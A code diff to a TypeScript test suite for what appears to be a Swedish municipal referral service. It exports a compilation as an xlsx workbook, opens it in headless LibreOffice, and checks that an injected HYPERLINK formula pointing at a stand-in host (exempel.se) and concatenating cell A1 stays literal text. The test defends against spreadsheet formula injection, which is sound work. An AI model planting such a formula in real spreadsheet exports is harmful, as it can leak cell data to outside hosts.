@@ -1,5 +1,5 @@
 import { execFileSync } from 'node:child_process';
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
@@ -9,6 +9,9 @@ import { bytesOf, hasPdfTools, readPdf, type ReadPdf } from '../support/papers.j
 import { startService, type Service } from '../support/service.js';
 
 const hasOffice = existsSync('/usr/bin/soffice') && hasPdfTools;
+const hasCalc = existsSync('/usr/lib/libreoffice/program/libsclo.so');
+/** What a spreadsheet would count with, or fetch, were it not text. */
+const FORMULA = '=HYPERLINK("http://exempel.se/"&A1;"Svara här")';
 
 /** Every kind of paper: who fetches it, and where it is. */
 const PAPERS = {
@@ -40,7 +43,8 @@ beforeAll(async () => {
     { heading: 'Barnperspektiv', text: 'Barn berörs:\n\n- trygga vägar\n  - till skolan\n- lek' },
   ];
   await found.onTheWay(referral, id, 'drafting');
-  await found.saveStatement(id, { ...statement, sections });
+  const remarks = [...statement.remarks, { passage: 'Tabell 2', text: FORMULA }];
+  await found.saveStatement(id, { ...statement, sections, remarks });
   await found.step('tsn-handlaggare', id, 'submit');
   await found.step('tsn-chef', id, 'approve');
   await found.meeting();
@@ -62,11 +66,26 @@ beforeAll(async () => {
       const { body } = await bytesOf(service.as(persona).get(`${path}?format=${format}`)).expect(200);
       writeFileSync(join(folder, `${kind}.${format}`), body as Buffer);
     }
+  const workbook = service
+    .as('ks-handlaggare')
+    .get(`/referrals/${referral.id}/papers/compilation?format=xlsx`);
+  writeFileSync(join(folder, 'compilation.xlsx'), (await bytesOf(workbook).expect(200)).body as Buffer);
 });
 afterAll(async () => {
   rmSync(folder, { recursive: true, force: true });
   await service.stop();
 });
+
+/** What LibreOffice makes of files of the folder, in `office` beside them. */
+function openedInOffice(as: string, files: readonly string[]): void {
+  execFileSync('/usr/bin/soffice', [
+    `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
+    '--headless',
+    '--convert-to', as,
+    '--outdir', join(folder, 'office'),
+    ...files.map((file) => join(folder, file)),
+  ], { stdio: 'ignore' }); // prettier-ignore
+}
 
 const read = (...place: string[]): ReadPdf => readPdf(readFileSync(join(folder, ...place)));
 
@@ -88,15 +107,10 @@ const read = (...place: string[]): ReadPdf => readPdf(readFileSync(join(folder, 
 
 (hasOffice ? describe : describe.skip)('every paper for Word', () => {
   beforeAll(() => {
-    const profile = pathToFileURL(join(folder, 'profile')).href;
-    mkdirSync(join(folder, 'office'));
-    execFileSync('/usr/bin/soffice', [
-      `-env:UserInstallation=${profile}`,
-      '--headless',
-      '--convert-to', 'pdf:writer_pdf_Export:{"UseTaggedPDF":{"type":"boolean","value":"true"}}',
-      '--outdir', join(folder, 'office'),
-      ...KINDS.map((kind) => join(folder, `${kind}.docx`)),
-    ], { stdio: 'ignore' }); // prettier-ignore
+    openedInOffice(
+      'pdf:writer_pdf_Export:{"UseTaggedPDF":{"type":"boolean","value":"true"}}',
+      KINDS.map((kind) => `${kind}.docx`),
+    );
   }, 180_000);
 
   it.each(KINDS)('has in LibreOffice the headings of the PDF, in the same order: %s', (kind) => {
@@ -105,4 +119,21 @@ const read = (...place: string[]): ReadPdf => readPdf(readFileSync(join(folder, 
     const pages = office.pages.length;
     for (const [at, text] of office.pages.entries()) expect(text).toContain(`${at + 1} (${pages})`);
   });
+});
+
+(hasCalc ? describe : describe.skip)('the compilation as a workbook', () => {
+  it('has in LibreOffice a sheet for each of its own, every text letter for letter, and nothing that is counted', () => {
+    // Every sheet as it is shown, in UTF-8, in a file of its own.
+    openedInOffice('csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1', [
+      'compilation.xlsx',
+    ]);
+    const sheets = readdirSync(join(folder, 'office')).filter((name) => name.endsWith('.csv'));
+    expect(
+      sheets.map((name) => name.replace(/^compilation-|\.csv$/g, '').normalize('NFC')).toSorted(),
+    ).toEqual(['Antal', 'Remissinstanser', 'Svar på frågor', 'Synpunkter']);
+    const shown = sheets.map((name) => readFileSync(join(folder, 'office', name), 'utf8')).join('\n');
+    for (const text of ['Tekniska servicenämnden', 'Bör nämna trygga gångvägar.', FORMULA])
+      expect(shown).toContain(text.replaceAll('"', '""'));
+    expect(shown).not.toMatch(/#(?:NAME\?|REF!|VALUE!|DIV\/0!|N\/A)|Err:5\d\d/);
+  }, 120_000);
 });
